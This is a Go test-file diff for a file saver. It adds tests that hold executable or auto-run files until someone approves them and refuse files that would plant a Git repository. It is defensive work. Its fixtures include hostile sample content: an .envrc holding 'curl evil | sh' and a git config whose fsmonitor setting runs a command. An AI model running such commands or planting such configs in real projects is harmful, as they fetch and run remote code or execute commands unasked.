@@ -35,6 +35,7 @@ func newSaver(t *testing.T, dir string, answer choice) *saver {
 			return err
 		},
 		choose: func(string) (choice, error) { return answer, nil },
+		allow:  func(string, string) (bool, error) { return true, nil },
 	}
 }
 
@@ -66,18 +67,18 @@ func TestSave(t *testing.T) {
 		want   savedFile
 		files  map[string]string
 	}{
-		{"new", nil, chooseNothing, made("plot.png", "P"), savedFile{"plot.png", "plot.png", saveDone}, map[string]string{"plot.png": "P"}},
-		{"new folder", nil, chooseNothing, made("a/b/c.txt", "C"), savedFile{"a/b/c.txt", "a/b/c.txt", saveDone}, map[string]string{"a/b/c.txt": "C"}},
-		{"empty file", nil, chooseNothing, made("e", ""), savedFile{"e", "e", saveDone}, map[string]string{"e": ""}},
-		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, made("p", "P"), savedFile{"p", "p", saveUnchanged}, map[string]string{"p": "P"}},
-		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, made("p", "new"), savedFile{"p", "", saveExists}, map[string]string{"p": "old"}},
-		{"no", map[string]string{"p": "old"}, chooseSkip, made("p", "new"), savedFile{"p", "", saveSkipped}, map[string]string{"p": "old"}},
-		{"yes", map[string]string{"p": "old"}, chooseReplace, made("p", "new"), savedFile{"p", "p", saveDone}, map[string]string{"p": "new"}},
-		{"rename", map[string]string{"plot.png": "old"}, chooseRename, made("plot.png", "new"), savedFile{"plot.png", "plot-1.png", saveDone},
+		{"new", nil, chooseNothing, made("plot.png", "P"), savedFile{Path: "plot.png", As: "plot.png", State: saveDone}, map[string]string{"plot.png": "P"}},
+		{"new folder", nil, chooseNothing, made("a/b/c.txt", "C"), savedFile{Path: "a/b/c.txt", As: "a/b/c.txt", State: saveDone}, map[string]string{"a/b/c.txt": "C"}},
+		{"empty file", nil, chooseNothing, made("e", ""), savedFile{Path: "e", As: "e", State: saveDone}, map[string]string{"e": ""}},
+		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, made("p", "P"), savedFile{Path: "p", As: "p", State: saveUnchanged}, map[string]string{"p": "P"}},
+		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, made("p", "new"), savedFile{Path: "p", As: "", State: saveExists}, map[string]string{"p": "old"}},
+		{"no", map[string]string{"p": "old"}, chooseSkip, made("p", "new"), savedFile{Path: "p", As: "", State: saveSkipped}, map[string]string{"p": "old"}},
+		{"yes", map[string]string{"p": "old"}, chooseReplace, made("p", "new"), savedFile{Path: "p", As: "p", State: saveDone}, map[string]string{"p": "new"}},
+		{"rename", map[string]string{"plot.png": "old"}, chooseRename, made("plot.png", "new"), savedFile{Path: "plot.png", As: "plot-1.png", State: saveDone},
 			map[string]string{"plot.png": "old", "plot-1.png": "new"}},
-		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, chooseRename, made("d/p.gz", "new"), savedFile{"d/p.gz", "d/p-2.gz", saveDone},
+		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, chooseRename, made("d/p.gz", "new"), savedFile{Path: "d/p.gz", As: "d/p-2.gz", State: saveDone},
 			map[string]string{"d/p.gz": "a", "d/p-1.gz": "b", "d/p-2.gz": "new"}},
-		{"rename a dot file", map[string]string{".x": "old"}, chooseRename, made(".x", "new"), savedFile{".x", ".x-1", saveDone}, map[string]string{".x": "old", ".x-1": "new"}},
+		{"rename a dot file", map[string]string{".x": "old"}, chooseRename, made(".x", "new"), savedFile{Path: ".x", As: ".x-1", State: saveDone}, map[string]string{".x": "old", ".x-1": "new"}},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -101,6 +102,68 @@ func TestSave(t *testing.T) {
 				t.Error(diff)
 			}
 		})
+	}
+}
+
+// TestSaveAsksAboutWhatRuns: what a tool would run or obey by itself is saved
+// only if somebody agreed to it, and what belongs to Git never.
+func TestSaveAsksAboutWhatRuns(t *testing.T) {
+	for _, test := range []struct {
+		name, content string
+		held          bool
+	}{
+		{".envrc", "curl evil | sh", true}, {".ssh/authorized_keys", "ssh-ed25519 x", true}, {".vscode/tasks.json", "{}", true}, {"conftest.py", "", true},
+		{"Makefile", "all:", true}, {"tool", "#!/bin/sh\n", true}, {"a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00", true}, {"run.exe", "x", true},
+		{"plot.png", "\x89PNG\r\n\x1a\n", false}, {"data.zip", "PK\x03\x04", false}, {"main.py", "print(1)", false},
+	} {
+		dir := t.TempDir()
+		s := newSaver(t, dir, chooseReplace)
+		asked := ""
+		s.allow = func(_, why string) (bool, error) { asked = why; return false, nil }
+		got, err := s.save(t.Context(), made(test.name, test.content))
+		if err != nil || (got.State == saveHeld) != test.held || (asked != "") != test.held || got.Reason != asked {
+			t.Errorf("%s: %+v, %q, %v", test.name, got, asked, err)
+		}
+		if files := tree(t, dir); test.held && len(files) != 0 {
+			t.Errorf("%s left %v", test.name, files)
+		}
+		s.allow = func(string, string) (bool, error) { return true, nil }
+		if got, err = s.save(t.Context(), made(test.name, test.content)); err != nil || got.State != saveDone && test.held {
+			t.Errorf("%s, agreed to: %+v, %v", test.name, got, err)
+		}
+	}
+}
+
+// TestSavePlantsNoRepository: settings that Git obeys come in no disguise, not
+// even together with what is in the folder already.
+func TestSavePlantsNoRepository(t *testing.T) {
+	for _, paths := range [][]string{
+		{".git/config"}, {".GIT/hooks/post-checkout"}, {"sub/.git/commondir"}, {".git"}, {"git~1/config"},
+		{"HEAD", "objects/x", "refs/x", "config"}, {"r/HEAD", "r/commondir", "r/config"},
+	} {
+		dir := t.TempDir()
+		s := newSaver(t, dir, chooseReplace)
+		s.check(paths)
+		for _, name := range paths {
+			got, err := s.save(t.Context(), made(name, "[core]\nfsmonitor = touch pwned\n"))
+			if code, _ := exitOf(err); code != exitRefused || got.State != saveRefused || got.Reason == "" {
+				t.Errorf("%s of %q: %+v, %v", name, paths, got, err)
+			}
+		}
+		if files := tree(t, dir); len(files) != 0 {
+			t.Errorf("%q left %v", paths, files)
+		}
+	}
+	dir := t.TempDir()
+	for _, name := range []string{"Objects", "refs"} {
+		if err := os.Mkdir(filepath.Join(dir, name), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s := newSaver(t, dir, chooseReplace)
+	s.check([]string{"HEAD"})
+	if got, _ := s.save(t.Context(), made("HEAD", "ref: refs/heads/x")); got.State != saveRefused {
+		t.Errorf("completes a repository: %+v", got)
 	}
 }
 
